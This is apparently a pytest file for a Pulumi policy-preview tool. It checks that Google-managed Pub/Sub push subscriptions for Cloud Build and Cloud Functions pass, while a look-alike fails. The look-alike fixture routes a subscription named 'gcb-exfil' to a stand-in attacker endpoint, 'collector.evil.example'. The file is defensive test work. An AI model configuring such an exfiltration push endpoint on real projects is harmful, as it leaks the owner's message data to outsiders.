"""Issue 35 item 1 in ``pushguard preview`` as teams run it: a program that imports the
subscriptions Google made for a Cloud Build Pub/Sub trigger and a 1st-gen Cloud Function
(``import_``, as ``pulumi import`` writes it) is not blocked; the JSON, SARIF and text reports
list them as Google-managed with a count. A look-alike next to them still fails the preview."""

from __future__ import annotations

import json

GCB = "rpc://name:CloudBuildPushEndpoint:gslb:google.pubsub.v1.cloudbuildpushendpoint-prod-global"
GCF = (
    "https://356ae58eb6e083495d0b3ddb23b6f319-dot-wd98ee21ff09809b5p-tp.appspot.com"
    "/_ah/push-handlers/pubsub/projects/acme-orders/topics/trading-bot-papa?pubsub_trigger=true"
)
PROGRAM = f"""
import pulumi
import pulumi_gcp as gcp


def imported(resource, name, topic, endpoint):
    gcp.pubsub.Subscription(
        resource,
        name=name,
        topic=f"projects/acme-orders/topics/{{topic}}",
        ack_deadline_seconds=600,
        push_config={{"push_endpoint": endpoint}},
        opts=pulumi.ResourceOptions(import_=f"projects/acme-orders/subscriptions/{{name}}"),
    )


imported("build", "gcb-deploy-on-release", "releases", "{GCB}")
imported(
    "function",
    "gcf-trading-bot-v1-papa-europe-west1-trading-bot-papa",
    "trading-bot-papa",
    "{GCF}",
)
"""
LOOK_ALIKE = """
imported("evil", "gcb-exfil", "releases", "https://collector.evil.example/push")
"""


def test_imported_googles_subscriptions_pass_the_preview(preview, make_project) -> None:
    folder = make_project(PROGRAM)
    run = preview("--stack", "dev", "-f", "json", cwd=folder)
    assert run.exit_code == 0, run.stdout + run.stderr
    report = run.json()
    managed = {m["urn"].rsplit("::", 1)[1]: m for m in report["googleManaged"]}
    assert set(managed) == {"build", "function"}
    assert managed["build"]["product"] == "Cloud Build"
    assert "the Pub/Sub trigger 'deploy-on-release' in global" in managed["build"]["reason"]
    assert managed["function"]["product"] == "Cloud Functions (1st gen)"
    assert "the Pub/Sub function 'trading-bot-v1-papa'" in managed["function"]["reason"]
    assert report["summary"]["googleManaged"] == 2
    assert not [v for v in report["violations"] if v["level"] == "mandatory"]
    text = preview("--stack", "dev", cwd=folder)
    assert "Google-managed, not judged (2)" in text.stdout
    assert "2 Google-managed subscription(s) not judged" in text.stdout
    sarif = json.loads(preview("--stack", "dev", "-f", "sarif", cwd=folder).stdout)
    (invocation,) = sarif["runs"][0]["invocations"]
    assert invocation["properties"]["googleManaged"] == 2


def test_a_look_alike_beside_them_fails_the_preview(preview, make_project) -> None:
    folder = make_project(PROGRAM + LOOK_ALIKE)
    run = preview("--stack", "dev", "-f", "json", cwd=folder)
    assert run.exit_code == 1, run.stdout + run.stderr
    report = run.json()
    failed = {(v["policy"], v["urn"].rsplit("::", 1)[1]) for v in report["violations"]}
    assert ("push-auth-oidc", "evil") in failed
    assert {m["urn"].rsplit("::", 1)[1] for m in report["googleManaged"]} == {"build", "function"}
